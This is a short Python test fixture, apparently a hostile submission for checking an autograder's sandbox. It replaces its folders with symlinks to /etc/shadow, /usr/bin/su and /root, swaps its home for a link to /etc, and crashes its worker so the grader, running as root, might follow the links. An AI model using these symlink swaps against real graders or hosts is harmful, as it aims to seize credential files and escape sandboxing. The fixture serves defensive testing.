"""Hostile (symlink swap): replaces its writable folders with symlinks to host paths and leaves
dangling ones, then kills its worker, hoping the grader follows them as root when it prepares
the next worker (re-owning /etc/shadow, or blaming its own FileNotFoundError on the student).

Expected: nothing on the host changes, the restart works (`norm` passes after `dot` crashed)
and no message shows a host path.
"""
import os
import shutil

import numpy as np

TARGETS = ("/etc/shadow", "/usr/bin/su", "/root")


def _swap(folder):
    try:
        shutil.rmtree(folder, ignore_errors=True)
        os.symlink(TARGETS[0], folder)
    except OSError as exc:
        print("swap", folder, type(exc).__name__)


home = os.environ.get("HOME", ".")
_swap(os.path.join(home, "tmp"))
for i, target in enumerate(TARGETS + ("/no/such/place",)):
    try:
        os.symlink(target, os.path.join(home, f"link{i}"))
    except OSError:
        pass
try:  # the folder above the home, if it can be replaced at all
    os.rename(home, home + ".gone")
    os.symlink("/etc", home)
except OSError as exc:
    print("home", type(exc).__name__)


def dot(u, v):
    os._exit(9)   # a crash: the grader starts a fresh worker for the next call


def norm(v):
    return float(np.sqrt(np.dot(v, v)))
